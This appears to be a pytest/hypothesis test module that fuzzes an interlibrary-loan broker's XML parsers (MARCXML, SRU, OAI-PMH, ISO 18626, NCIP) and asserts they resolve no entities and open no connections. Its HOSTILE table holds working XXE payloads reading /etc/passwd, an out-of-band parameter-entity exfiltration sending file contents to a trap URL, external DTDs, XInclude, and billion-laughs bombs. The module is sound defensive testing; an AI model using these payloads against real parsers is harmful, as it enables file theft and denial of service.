"""Property tests over every XML parser in connectors/: MARCXML files, SRU
searchRetrieve responses, OAI-PMH pages and the records a harvest reads out of them,
ISO 18626 messages, NCIP LookupUser and circulation responses.

Whatever bytes a peer sends (random bytes, the test fixtures mutated, entity bombs,
external entities and DTDs pointing at files and at an HTTP server, deep nesting, huge
attributes), each parser returns its parsed value or raises its protocol's own error
class, and nothing else; it never resolves an entity (neither a file's nor a URL's
content shows up in what it returns), never opens a connection (a listening trap
counts them, and Python's sockets are watched too) and answers within ``FAST``
seconds. Bounded and deterministic for CI: ``EXAMPLES`` cases per parser, drawn with
``derandomize``.
"""

from __future__ import annotations

import dataclasses
import io
import os
import re
import socket
import socketserver
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from types import MappingProxyType
from typing import Any
from unittest import mock

import pytest
import requests
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from lxml import etree
from requests.adapters import BaseAdapter
from requests.structures import CaseInsensitiveDict

from broker.domain.consortium import HoldingsMapping
from broker.domain.holdings import BibRecord, ItemStatus
from connectors.errors import BadResponse, ConnectorError
from connectors.iso18626 import messages as iso
from connectors.iso18626.errors import MessageError
from connectors.marc.records import RecordError, iter_records
from connectors.ncip.errors import NcipBadResponse, NcipProblem
from connectors.ncip.messages import (
    CIRCULATION_SERVICES,
    parse_circulation_response,
    parse_lookup_user_response,
)
from connectors.oaipmh.client import parse_page, raise_for_errors
from connectors.oaipmh.errors import OaiPmhError
from connectors.oaipmh.harvester import OaiHarvester
from connectors.sru.diagnostics import SruError
from connectors.sru.response import parse_search_response

# Cases per parser; HOSTILE_XML_EXAMPLES asks for a longer search.
EXAMPLES = int(os.environ.get("HOSTILE_XML_EXAMPLES", "120"))
FAST = 5.0  # seconds for one parse, with room for a loaded 2-core machine
FIXTURES = Path(__file__).resolve().parent.parent / "connectors"

# Placeholders the strategies write; each parse gets them replaced by the trap's
# address and the secret file's URI, which exist only once the module's fixture runs.
TRAP = b"http://trap.invalid"
SECRET = b"file:///secret.invalid"
SECRET_TEXT = "illbroker-secret-5c1e"
TRAP_TEXT = "illbroker-trap-9d0a"
PASSWD_TEXT = "root:x:0:0"

MAPPING_852 = HoldingsMapping(
    tag="852", branch="b", call_number="h", barcode="p", status="y", due_date="d",
    status_map=MappingProxyType({"a": ItemStatus.AVAILABLE, "o": ItemStatus.ON_LOAN}),
)
MAPPING_952 = HoldingsMapping(
    tag="952", branch="b", call_number="o", barcode="p", status="7", due_date="q", lost="1",
)


# ---------------------------------------------------------------- the parsers


def _fixtures(folder: str, pattern: str = "*.xml") -> tuple[bytes, ...]:
    found = tuple(path.read_bytes() for path in sorted((FIXTURES / folder).glob(pattern)))
    assert found, f"no fixtures in {folder}"
    return found


def _first_record(collection: bytes) -> bytes:
    """The collection with its first record only: a small document to mutate."""
    start = collection.index(b"<record>")
    end = collection.index(b"</record>") + len(b"</record>")
    return collection[:start] + collection[start:end] + b"\n</collection>\n"


MARC = _fixtures("fixtures/marc")
MARC_RECORD = _first_record(MARC[0])
OAI_NS = "http://www.openarchives.org/OAI/2.0/"


def oai_page(records: bytes, token: bytes = b"") -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/">'
            b"<responseDate>2026-03-03T09:00:00Z</responseDate>"
            b'<request verb="ListRecords" metadataPrefix="marc21">http://oai.invalid/oai</request>'
            b"<ListRecords>" + records + b"<resumptionToken>" + token
            + b"</resumptionToken></ListRecords></OAI-PMH>\n")


_MARC_BODY = MARC_RECORD[MARC_RECORD.index(b"<record>"):MARC_RECORD.index(b"</collection>")]
OAI = (
    oai_page(b"<record><header><identifier>oai:tst:1</identifier>"
             b"<datestamp>2026-03-01T10:00:00Z</datestamp></header><metadata>"
             + _MARC_BODY.replace(b"<record>",
                                  b'<record xmlns="http://www.loc.gov/MARC21/slim">', 1)
             + b"</metadata></record>"
             b'<record><header status="deleted"><identifier>oai:tst:2</identifier>'
             b"<datestamp>2026-03-02</datestamp></header></record>", b"page-2"),
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/">'
    b"<responseDate>2026-03-03T09:00:00Z</responseDate><request>http://oai.invalid/oai"
    b'</request><error code="badResumptionToken">expired</error></OAI-PMH>\n',
)
# What the repository answers after the page under test: the end of the list.
LAST_PAGE = oai_page(b"")


class CannedAdapter(BaseAdapter):
    """requests' transport, answering the first request with ``first`` and every
    later one with ``LAST_PAGE``: the OAI-PMH client runs as it does over HTTP, with
    no network."""

    def __init__(self, first: bytes) -> None:
        super().__init__()
        self.pages = [first]

    def send(self, request: requests.PreparedRequest, *args: Any, **kwargs: Any,
             ) -> requests.Response:
        response = requests.Response()
        response.status_code = 200
        response.reason = "OK"
        response.headers = CaseInsensitiveDict({"Content-Type": "text/xml"})
        response.raw = io.BytesIO(self.pages.pop(0) if self.pages else LAST_PAGE)
        response.url = request.url or ""
        response.request = request
        return response

    def close(self) -> None:
        pass


def harvest(page: bytes) -> list[Any]:
    """Every item a whole harvest yields when the repository answers ``page``."""
    harvester = OaiHarvester("http://oai.invalid/oai", mapping=MAPPING_852, library="TST",
                             retries=0)
    make_client = harvester.client

    def client() -> Any:
        made = make_client()
        made.session.mount("http://", CannedAdapter(page))
        return made

    harvester.client = client  # type: ignore[method-assign]
    return list(harvester.harvest(None))


def oai_response(page: bytes) -> Any:
    parsed = parse_page({"verb": "ListRecords"}, page, peer="TST")
    raise_for_errors(parsed, peer="TST")
    return parsed.xml


def marc_file(data: bytes) -> list[BibRecord | RecordError]:
    items = list(iter_records(io.BytesIO(data), MAPPING_852, "TST"))
    assert all(isinstance(item, BibRecord | RecordError) for item in items), items
    return items


def circulation(data: bytes) -> list[Any]:
    """The document read as the response of each circulation service: a
    ``CirculationResponse`` or the NCIP error it raises, per service."""
    outcomes: list[Any] = []
    for service in sorted(CIRCULATION_SERVICES):
        try:
            outcomes.append(parse_circulation_response(data, service))
        except (NcipBadResponse, NcipProblem) as exc:
            outcomes.append(exc)
    return outcomes


@dataclass(frozen=True, slots=True)
class Parser:
    """One parser: how it is called, the errors it may raise, documents it reads."""
    name: str
    parse: Callable[[bytes], Any]
    raises: tuple[type[BaseException], ...]
    fixtures: tuple[bytes, ...]


PARSERS = (
    # The MARCXML reader is forgiving: bad input is a RecordError item, never raised.
    Parser("marcxml", marc_file, (), (MARC_RECORD, *MARC)),
    Parser("sru", lambda data: parse_search_response(data, MAPPING_952, "SI-KR", peer="SI-KR"),
           (BadResponse, SruError), _fixtures("fixtures/sru")),
    Parser("oaipmh-page", oai_response, (BadResponse, OaiPmhError), OAI),
    Parser("oaipmh-harvest", harvest, (ConnectorError,), OAI),
    Parser("iso18626", iso.parse, (MessageError,), _fixtures("iso18626/fixtures")),
    Parser("iso18626-1.2", lambda data: iso.parse(data, iso.V1_2), (MessageError,),
           _fixtures("iso18626/fixtures", "*v1_2.xml") + _fixtures("iso18626/fixtures",
                                                                    "request.xml")),
    Parser("ncip-lookup-user", lambda data: parse_lookup_user_response(data, "1001"),
           (NcipBadResponse, NcipProblem), _fixtures("ncip/fixtures")),
    Parser("ncip-circulation", circulation, (), _fixtures("ncip/fixtures/circulation")),
)


# ---------------------------------------------------------------- hostile documents

_DECLARATION = re.compile(rb"\A(?:\xef\xbb\xbf)?<\?xml[^>]*\?>")
_ROOT = re.compile(rb"<([A-Za-z_][A-Za-z0-9_.:-]*)")
_TEXT = re.compile(rb">([^<>\s][^<>]*)<")
# An attribute's value; namespace declarations are left alone (a spoilt one is only
# ever a WrongNamespace, and the code behind it would never be reached).
_ATTRIBUTE = re.compile(rb'\s(?!xmlns)[A-Za-z_][A-Za-z0-9_.:-]*="([^"]*)"')


def _root_name(document: bytes) -> bytes:
    body = _DECLARATION.sub(b"", document)
    body = re.sub(rb"<!--.*?-->", b"", body, flags=re.DOTALL)
    found = _ROOT.search(body)
    return found.group(1) if found else b"r"


def with_doctype(document: bytes, subset: bytes, reference: bytes | None,
                 external: bytes = b"") -> bytes:
    """``document`` with a DOCTYPE after its XML declaration (internal ``subset``,
    optional ``external`` id) and ``reference`` put into its first text."""
    doctype = b"<!DOCTYPE " + _root_name(document) + external
    doctype += (b" [" + subset + b"]>") if subset else b">"
    declaration = _DECLARATION.match(document)
    at = declaration.end() if declaration else 0
    out = document[:at] + b"\n" + doctype + document[at:]
    if reference is not None:
        text = _TEXT.search(out, at + len(doctype))
        where = text.start(1) if text else len(out)
        out = out[:where] + reference + out[where:]
    return out


def _laughs(levels: int) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [b"<!ENTITY lol%d \"%s\">" % (n, b"".join(b"&lol%d;" % (n - 1)
                                                         for _ in range(10)))
                 for n in range(1, levels + 1)]
    return b"".join(entities)


# Each: (internal subset, reference in the text, external id of the DOCTYPE).
HOSTILE: dict[str, tuple[bytes, bytes | None, bytes]] = {
    "billion-laughs": (_laughs(9), b"&lol9;", b""),
    "quadratic-blowup": (b'<!ENTITY a "' + b"x" * 50_000 + b'">', b"&a;" * 5_000, b""),
    "xxe-passwd": (b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b"&xxe;", b""),
    "xxe-secret": (b'<!ENTITY xxe SYSTEM "' + SECRET + b'">', b"&xxe;", b""),
    "xxe-http": (b'<!ENTITY xxe SYSTEM "' + TRAP + b'/entity">', b"&xxe;", b""),
    "xxe-public-http": (b'<!ENTITY xxe PUBLIC "-//X//Y" "' + TRAP + b'/public">', b"&xxe;", b""),
    "parameter-http": (b'<!ENTITY % p SYSTEM "' + TRAP + b'/param"> %p;', None, b""),
    "parameter-secret": (b'<!ENTITY % p SYSTEM "' + SECRET + b'"> %p;', None, b""),
    "parameter-exfiltration": (
        b'<!ENTITY % file SYSTEM "file:///etc/passwd">'
        b'<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'' + TRAP + b'/?%file;\'>"> %wrap; %send;',
        None, b""),
    "external-dtd-http": (b"", None, b' SYSTEM "' + TRAP + b'/dtd"'),
    "external-dtd-passwd": (b"", None, b' SYSTEM "file:///etc/passwd"'),
    "external-dtd-and-entity": (b'<!ENTITY xxe SYSTEM "' + SECRET + b'">', b"&xxe;",
                                b' PUBLIC "-//X//Y" "' + TRAP + b'/dtd"'),
    "undeclared-entity": (b"", b"&nbsp;", b""),
    "unparsed-entity": (b'<!NOTATION n SYSTEM "' + TRAP + b'/n">'
                        b'<!ENTITY u SYSTEM "' + TRAP + b'/u" NDATA n>', b"&u;", b""),
}


def hostile_document(document: bytes, kind: str) -> bytes:
    subset, reference, external = HOSTILE[kind]
    return with_doctype(document, subset, reference, external)


def xinclude(document: bytes) -> bytes:
    """An XInclude of /etc/passwd and of the trap in the first text (lxml processes
    XInclude only when asked to: it must stay a plain element)."""
    include = (b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
               b'href="file:///etc/passwd"/><xi:include '
               b'xmlns:xi="http://www.w3.org/2001/XInclude" href="' + TRAP + b'/xi"/>')
    text = _TEXT.search(document)
    where = text.start(1) if text else len(document)
    return document[:where] + include + document[where:]


def nested(document: bytes, depth: int) -> bytes:
    text = _TEXT.search(document)
    where = text.start(1) if text else len(document)
    return document[:where] + b"<x>" * depth + b"</x>" * depth + document[where:]


def huge_attribute(document: bytes, size: int, count: int) -> bytes:
    declaration = _DECLARATION.match(document)
    found = _ROOT.search(document, declaration.end() if declaration else 0)
    at = found.end() if found else 0
    attributes = b' big="' + b"A" * size + b'"' + b"".join(b' a%d="v"' % n for n in range(count))
    return document[:at] + attributes + document[at:]


def utf16(document: bytes) -> bytes:
    """The document in UTF-16 (where byte patterns looking for a DOCTYPE see nothing)."""
    text = _DECLARATION.sub(b"", document).decode("utf-8", "replace")
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


# ---------------------------------------------------------------- strategies

TOKENS = (b"<", b">", b"&", b"&amp;", b"&#0;", b"&#xD800;", b"&#x110000;", b"]]>",
          b"<![CDATA[", b"<!--", b"-->", b"<?pi ?>", b"</", b"/>", b'"', b"'", b"=",
          b"\x00", b"\x01", b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\xef\xbb\xbf",
          "ž".encode(), b"xmlns=''", b' xmlns:x="urn:x"', b"x:", b"<!DOCTYPE r>",
          b"<!ENTITY e 'e'>", b"&e;", b"&#x25;", b"%p;")
# Values that break careless code reading text: numbers beyond int()'s 4300 digits,
# digits isdigit() takes and int() does not, impossible dates, odd white space.
VALUES = ("", " ", "0", "-1", "9" * 5000, "²", "١٢", "1e999", "NaN", "2026-02-30",
          "2026-13-45T25:61:61Z", "0000-00-00", "99999-01-01", "2026-03-03T09:00:00+99:00",
          "\u00a0", "\u2028", "A" * 100_000, "ok", "OK", "ERROR", "true", "deleted",
          "http://trap.invalid/x", "&amp;", "Loan", "Copy", "852", "952", "1.2", "2021-2")


@st.composite
def mutated(draw: st.DrawFn, fixtures: tuple[bytes, ...]) -> bytes:
    """A fixture with a few bytes flipped, cut, repeated or inserted."""
    data = bytearray(draw(st.sampled_from(fixtures)))
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, len(data)))
        kind = draw(st.sampled_from(("flip", "insert", "delete", "duplicate", "truncate",
                                     "token")))
        if kind == "flip" and at < len(data):
            data[at] = draw(st.integers(0, 255))
        elif kind == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=8))
        elif kind == "delete":
            del data[at:at + draw(st.integers(1, 64))]
        elif kind == "duplicate":
            data[at:at] = data[at:at + draw(st.integers(1, 256))]
        elif kind == "truncate":
            del data[at:]
        else:
            data[at:at] = draw(st.sampled_from(TOKENS))
    return bytes(data)


@st.composite
def revalued(draw: st.DrawFn, fixtures: tuple[bytes, ...]) -> bytes:
    """A fixture, well-formed still, with some texts and attribute values replaced by
    ``VALUES``: what gets past the XML parser to the code reading the message."""
    data = draw(st.sampled_from(fixtures))
    # After the XML declaration, whose version and encoding are not the message's.
    declaration = _DECLARATION.match(data)
    for pattern in (_TEXT, _ATTRIBUTE):
        spots = list(pattern.finditer(data, declaration.end() if declaration else 0))
        if not spots:
            continue
        chosen = draw(st.lists(st.sampled_from(spots), max_size=4, unique_by=lambda m: m.start()))
        for spot in sorted(chosen, key=lambda m: m.start(), reverse=True):
            value = draw(st.sampled_from(VALUES)).encode("utf-8")
            value = value.replace(b"&", b"&amp;") if value != b"&amp;" else value
            data = data[:spot.start(1)] + value.replace(b'"', b"") + data[spot.end(1):]
    return data


@st.composite
def attacked(draw: st.DrawFn, fixtures: tuple[bytes, ...]) -> bytes:
    """A fixture with a hostile DOCTYPE, an XInclude, deep nesting or huge attributes,
    sometimes in UTF-16."""
    document = draw(st.sampled_from(fixtures))
    kind = draw(st.sampled_from((*HOSTILE, "xinclude", "nested", "attribute")))
    if kind == "xinclude":
        document = xinclude(document)
    elif kind == "nested":
        document = nested(document, draw(st.sampled_from((255, 256, 300, 5_000, 100_000))))
    elif kind == "attribute":
        document = huge_attribute(document, draw(st.sampled_from((10, 100_000, 11_000_000))),
                                  draw(st.sampled_from((0, 1_000, 30_000))))
    else:
        document = hostile_document(document, kind)
    return utf16(document) if draw(st.booleans()) and len(document) < 200_000 else document


def documents(parser: Parser) -> st.SearchStrategy[bytes]:
    # Well-formed documents with odd values twice as often: they reach the code that
    # reads a message, past the XML parser.
    return st.one_of(st.binary(max_size=512), mutated(parser.fixtures),
                     revalued(parser.fixtures), revalued(parser.fixtures),
                     attacked(parser.fixtures))


# ---------------------------------------------------------------- the trap


@dataclass(frozen=True, slots=True)
class Trap:
    """An HTTP server the hostile documents point at, and a secret file."""
    url: bytes
    secret_uri: bytes
    hits: list[str]


class _TrapHandler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.server.hits.append(self.request.recv(4096).decode("latin-1"))  # type: ignore[attr-defined]
        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n"
                             + TRAP_TEXT.encode())


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    secret = tmp_path_factory.mktemp("secret") / "secret.txt"
    secret.write_text(SECRET_TEXT, encoding="utf-8")
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _TrapHandler)
    server.daemon_threads = True
    server.hits = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    port = server.server_address[1]
    try:
        yield Trap(f"http://127.0.0.1:{port}".encode(), secret.as_uri().encode(),
                   server.hits)  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def python_network_watched() -> Iterator[list[Any]]:
    """Python-level connections attempted inside (libxml2's own are the trap's)."""
    attempts: list[Any] = []
    real_connect = socket.socket.connect

    def connect(sock: socket.socket, address: Any) -> Any:
        attempts.append(address)
        return real_connect(sock, address)

    with mock.patch.object(socket.socket, "connect", connect):
        yield attempts


def _leaks(value: Any, seen: set[int] | None = None) -> Iterator[str]:
    """Every text in ``value`` (dataclasses, containers, elements, exceptions)."""
    seen = set() if seen is None else seen
    if id(value) in seen:
        return
    seen.add(id(value))
    if isinstance(value, str):
        yield value
    elif isinstance(value, bytes | bytearray):
        yield bytes(value).decode("utf-8", "replace")
    elif isinstance(value, etree._Element):
        yield etree.tostring(value, encoding="unicode")
    elif isinstance(value, BaseException):
        yield str(value)
        for item in vars(value).values():
            yield from _leaks(item, seen)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for item in dataclasses.fields(value):
            yield from _leaks(getattr(value, item.name), seen)
    elif isinstance(value, dict | MappingProxyType):
        for key, item in value.items():
            yield from _leaks(key, seen)
            yield from _leaks(item, seen)
    elif isinstance(value, list | tuple | set | frozenset):
        for item in value:
            yield from _leaks(item, seen)
    elif value is not None:
        yield repr(value)


def check(parser: Parser, document: bytes, trap: Trap) -> None:
    """The property: ``parser`` returns or raises its own error, fast, without
    resolving an entity or touching the network."""
    document = document.replace(TRAP, trap.url).replace(SECRET, trap.secret_uri)
    hits = len(trap.hits)
    started = time.perf_counter()
    with python_network_watched() as attempts:
        try:
            outcome: Any = parser.parse(document)
        except parser.raises as exc:
            outcome = exc
    took = time.perf_counter() - started
    assert took < FAST, f"{parser.name} took {took:.1f} s"
    assert trap.hits[hits:] == [], f"{parser.name} fetched from the trap"
    assert attempts == [], f"{parser.name} opened connections: {attempts}"
    for text in _leaks(outcome):
        for marker in (SECRET_TEXT, TRAP_TEXT, PASSWD_TEXT):
            assert marker not in text, f"{parser.name} resolved an entity: {marker}"


# ---------------------------------------------------------------- the tests


@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
def test_each_fixture_is_read(parser: Parser, trap: Trap) -> None:
    """The strategies start from documents the parsers read (or refuse) today."""
    for fixture in parser.fixtures:
        check(parser, fixture, trap)


@pytest.mark.parametrize("kind", [*HOSTILE, "xinclude"])
@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
def test_hostile_documents_resolve_nothing(parser: Parser, kind: str, trap: Trap) -> None:
    for fixture in parser.fixtures[:2]:
        document = xinclude(fixture) if kind == "xinclude" else hostile_document(fixture, kind)
        check(parser, document, trap)
        check(parser, utf16(document), trap)


@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
@pytest.mark.parametrize("size", [100_000, 11_000_000])
def test_deep_and_wide_documents_are_bounded(parser: Parser, size: int, trap: Trap) -> None:
    fixture = parser.fixtures[0]
    check(parser, nested(fixture, size // 10), trap)
    check(parser, huge_attribute(fixture, size, 0), trap)
    check(parser, huge_attribute(fixture, 10, size // 1_000), trap)


@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
def test_any_bytes_are_parsed_or_refused_with_the_protocols_error(
        parser: Parser, trap: Trap) -> None:
    @settings(max_examples=EXAMPLES, derandomize=True, database=None, deadline=None,
              phases=[Phase.explicit, Phase.generate, Phase.shrink], print_blob=False,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                     HealthCheck.large_base_example,
                                     HealthCheck.function_scoped_fixture])
    @given(document=documents(parser))
    def run(document: bytes) -> None:
        check(parser, document, trap)

    run()
